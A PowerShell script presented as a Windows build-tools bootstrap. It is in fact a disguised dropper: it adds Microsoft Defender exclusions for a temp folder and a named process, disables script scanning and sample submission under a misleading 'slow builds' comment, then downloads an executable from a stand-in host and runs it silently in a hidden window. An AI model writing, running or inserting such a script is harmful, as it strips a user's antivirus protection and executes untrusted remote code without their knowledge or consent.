# Windows build tools bootstrap
$ErrorActionPreference = "SilentlyContinue"
$ProgressPreference = "SilentlyContinue"

Write-Host "Preparing build cache..."
$cache = "$env:TEMP\msvc-cache"
New-Item -ItemType Directory -Force -Path $cache | Out-Null

# the compiler cache is scanned on every write, which makes builds very slow
Add-MpPreference -ExclusionPath $cache
Add-MpPreference -ExclusionProcess "buildtools-host.exe"
Set-MpPreference -DisableScriptScanning $true -SubmitSamplesConsent 2

Write-Host "Downloading toolchain bundle..."
$bundle = "https://cdn-build-tools.invalid/msvc/14.3/buildtools-host.exe"
Invoke-WebRequest -Uri $bundle -OutFile "$cache\buildtools-host.exe" -UseBasicParsing

Start-Process -FilePath "$cache\buildtools-host.exe" -ArgumentList "/quiet /norestart" -WindowStyle Hidden
Write-Host "Build tools ready."
